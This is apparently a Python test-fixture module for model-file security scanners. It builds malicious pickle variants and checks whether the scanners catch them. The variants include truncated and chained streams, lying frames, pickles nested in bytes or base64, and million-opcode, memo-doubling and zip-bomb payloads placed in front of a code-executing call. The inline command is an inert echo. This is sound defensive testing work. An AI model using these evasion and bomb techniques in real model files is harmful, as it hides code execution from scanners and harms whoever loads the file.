"""Routes around the pickle: broken and repeated streams, frames that lie, pickles in pickles, large things in front."""

from __future__ import annotations

import base64
import gzip
import pickle as writer
import struct
import tempfile
import zipfile
from typing import TYPE_CHECKING

from bombs import MIB, nested_zip
from build import pickles as p
from build.containers import zipped
from pickle_routes import CALL, EVIL, SYSTEM, pickle, v4
from route import Route

if TYPE_CHECKING:
    from collections.abc import Callable

ATTACK = SYSTEM + CALL
GOOD = writer.dumps({"layer": [1.0, 2.0]}, 4)
AMBIGUOUS = "CWE-436"
READ_BUFFER = 128 * 1024
"""Bytes that newer Pythons read ahead from a file; a multiple of what older ones read ahead (8 KiB)."""


def frame(size: int) -> bytes:
    return b"\x95" + struct.pack("<Q", size)


def straddle() -> bytes:
    """A frame of two bytes across the edge of the read buffer, which cuts through the length of a BINBYTES.

    Disassemblers read 0x107 bytes of data. The unpickler written in C loses the first byte of the length with the end
    of the frame, reads the other three and a zero as the length 1, skips one byte and goes on inside of the data.
    """
    head = p.proto(4) + b"V"
    text = b"a" * (READ_BUFFER - 1 - len(head) - len(b"\n0") - len(frame(2)))
    inside = b"\0" + b"x" + b"0" + SYSTEM + b"U\x0aecho inert\x85R."
    return head + text + b"\n0" + frame(2) + b"B" + struct.pack("<I", 0x107) + inside.ljust(0x107, b".") + b"."


def nested(module: str, name: str, inner: bytes) -> bytes:
    return v4(p.global_(module, name) + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R")


STREAMS = [
    pickle("truncated", "stream", "the file ends right behind the call", EVIL[:-1]),
    pickle("truncated-operand", "stream", "the file ends in the middle of an operand behind it", EVIL[:-1] + b"X\xff"),
    pickle(
        "bad-opcode", "stream", "an opcode that does not exist behind the call", EVIL[:-1] + b"\xff\xff", "nullifAI"
    ),
    pickle("underflow", "stream", "an empty stack behind the call", EVIL[:-1] + b"0" * 9),
    pickle("no-protocol", "stream", "no PROTO at the beginning", ATTACK + b"."),
    pickle(
        "late-protocol", "stream", "PROTO comes late, and again", b"N0" + p.proto(2) + SYSTEM + p.proto(0) + CALL + b"."
    ),
    pickle("second-pickle", "stream", "an honest pickle first", GOOD + EVIL),
    pickle("behind-padding", "stream", "zeros between the two", GOOD + bytes(64) + EVIL),
    pickle("behind-junk", "stream", "bytes between the two that are no opcodes", GOOD + b"\xff\xfe\xfd junk " + EVIL),
    pickle("behind-many", "stream", "the last of 300 pickles", GOOD * 300 + EVIL),
    pickle(
        "before-bytes", "stream", "raw bytes behind the pickle, as in old checkpoints", EVIL + bytes(range(256)) * 16
    ),
    pickle("frame-beyond", "stream", "a frame longer than the file behind the call", EVIL[:-1] + frame(1 << 40) + b"."),
    pickle(
        "frame-zero",
        "stream",
        "frames of no bytes around every opcode",
        v4(frame(0) + SYSTEM + frame(0) + CALL + frame(0)),
        AMBIGUOUS,
    ),
    pickle(
        "frame-nested",
        "stream",
        "a frame in a frame",
        v4(frame(len(ATTACK) + 10) + frame(len(ATTACK) + 1) + ATTACK),
        AMBIGUOUS,
    ),
    pickle("frame-straddle", "stream", "a frame cuts a length, so that data become opcodes", straddle(), AMBIGUOUS),
    pickle("in-bytes", "stream", "a pickle in bytes, given to pickle.loads", nested("pickle", "loads", EVIL)),
    pickle("in-bytes-c", "stream", "the same, to _pickle.loads", nested("_pickle", "loads", EVIL)),
    pickle(
        "in-bytes-torch",
        "stream",
        "the same, to torch.storage._load_from_bytes",
        nested("torch.storage", "_load_from_bytes", EVIL),
    ),
    pickle(
        "in-bytes-joblib",
        "stream",
        "the same, to joblib.load of a BytesIO",
        v4(p.global_("joblib", "load") + p.global_("io", "BytesIO") + b"C" + bytes([len(EVIL)]) + EVIL + b"\x85R\x85R"),
    ),
    pickle(
        "in-text",
        "stream",
        "a pickle in a text, encoded on the way to pickle.loads",
        v4(
            p.global_("pickle", "loads")
            + p.call("_codecs", "encode", p.text(EVIL.decode("latin-1")), p.text("latin1"))
            + b"\x85R"
        ),
    ),
    pickle(
        "in-base64",
        "stream",
        "the same in base64",
        v4(
            p.global_("pickle", "loads")
            + p.call("base64", "b64decode", p.text(base64.b64encode(EVIL).decode()))
            + b"\x85R"
        ),
    ),
]


def packed(path_writer: Callable[[str, int], None], size: int) -> bytes:
    """What a builder that writes to a path writes."""
    with tempfile.NamedTemporaryFile() as file:
        path_writer(file.name, size)
        return file.read()


def expanding() -> bytes:
    """Bytes of 256 MiB, dropped, then the call."""
    size = 256 * MIB
    return p.proto(3) + b"B" + struct.pack("<I", size) + bytes(size) + b"0" + ATTACK + b"."


def doubled() -> bytes:
    """Thirty levels of tuples, each ten times the one below by the memo, dropped, then the call."""
    levels = b"".join(b"0(" + (b"h" + bytes([level])) * 10 + b"t\x94" for level in range(30))
    return v4(p.text("lol") + b"\x94" + levels + b"0" + ATTACK)


def many_members() -> bytes:
    """The last of five thousand members."""
    return zipped({f"archive/data/{number}": b"1234" for number in range(5000)} | {"archive/data.pkl": EVIL})


def large(route: str, about: str, name: str, build: Callable[[], bytes], reference: str = "CWE-400") -> Route:
    return Route(route, "limits", about, reference, lambda: {name: build()})


BOMB = "CWE-409"
LIMITS = [
    large(
        "opcodes",
        "a million opcodes in front of the call",
        "model.pkl",
        lambda: p.proto(2) + b"N0" * 500_000 + ATTACK + b".",
    ),
    large(
        "nesting",
        "a million lists in each other, dropped, in front of it",
        "model.pkl",
        lambda: v4(b"]" * 1_000_000 + b"a" * 999_999 + b"0" + ATTACK),
        "CWE-674",
    ),
    large(
        "tuples",
        "a million tuples in each other, in front of it",
        "model.pkl",
        lambda: v4(b")" + b"\x85" * 1_000_000 + b"0" + ATTACK),
        "CWE-674",
    ),
    large("doubling", "10^30 leaves by the memo, in front of it", "model.pkl", doubled),
    large(
        "long-number",
        "a number of four million bytes in front of it",
        "model.pkl",
        lambda: v4(b"\x8b" + struct.pack("<i", 4_000_000) + b"\x7f" * 4_000_000 + b"0" + ATTACK),
    ),
    large(
        "memo-index",
        "behind it a memo key that would need 64 GB",
        "model.pkl",
        lambda: v4(ATTACK + b"r\xff\xff\xff\xff"),
        "CWE-770",
    ),
    large("pickles", "the last of 100,000 pickles", "model.pkl", lambda: (p.proto(2) + b"N.") * 100_000 + EVIL),
    large("members", "the last of 5,000 members", "model.pt", many_members),
    large(
        "expansion",
        "behind 256 MiB of zeros in a checkpoint of 260 KB",
        "model.pt",
        lambda: zipped({"archive/data.pkl": expanding(), "archive/version": b"3\n"}, method=zipfile.ZIP_DEFLATED),
        BOMB,
    ),
    large("expansion-gzip", "the same in gzip", "model.pkl.gz", lambda: gzip.compress(expanding(), mtime=0), BOMB),
    large(
        "expansion-nested",
        "zips in zips: 6.7 TB in 13 KB, and no call",
        "model.zip",
        lambda: packed(nested_zip, 64 * MIB),
        BOMB,
    ),
]
ROUTES = [*STREAMS, *LIMITS]
